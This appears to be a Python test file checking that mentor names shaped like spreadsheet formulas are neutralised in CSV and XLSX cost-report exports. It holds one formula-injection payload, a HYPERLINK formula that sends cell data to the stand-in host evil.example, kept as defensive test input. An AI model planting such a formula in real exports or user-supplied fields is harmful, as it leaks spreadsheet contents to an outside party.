"""Names and regions that look like formulas come out as inert text in the cost report."""

import csv
import io

from openpyxl import load_workbook

from acompana.costs.models import Expense
from acompana.costs.tests.factories import ExpenseFactory

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
BASE = "/p/test-program/costs/report/?year=2026"


def formula_mentor(world):
    world.mentor.first_name, world.mentor.last_name = ATTACK, ""
    world.mentor.save(update_fields=["first_name", "last_name"])
    ExpenseFactory(mentor=world.mentor_profile, status=Expense.Status.APPROVED)


def test_a_formula_name_is_neutralized_in_the_cost_report_csv(world, as_persona):
    formula_mentor(world)
    text = as_persona("coordinator").get(BASE + "&format=csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells


def test_a_formula_name_is_a_text_cell_in_the_cost_report_xlsx(world, as_persona):
    formula_mentor(world)
    content = as_persona("coordinator").get(BASE + "&format=xlsx").content
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    attack = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert attack and all((c.data_type, c.value) == ("s", "'" + ATTACK) for c in attack)
    assert not [c for c in cells if c.data_type == "f"]
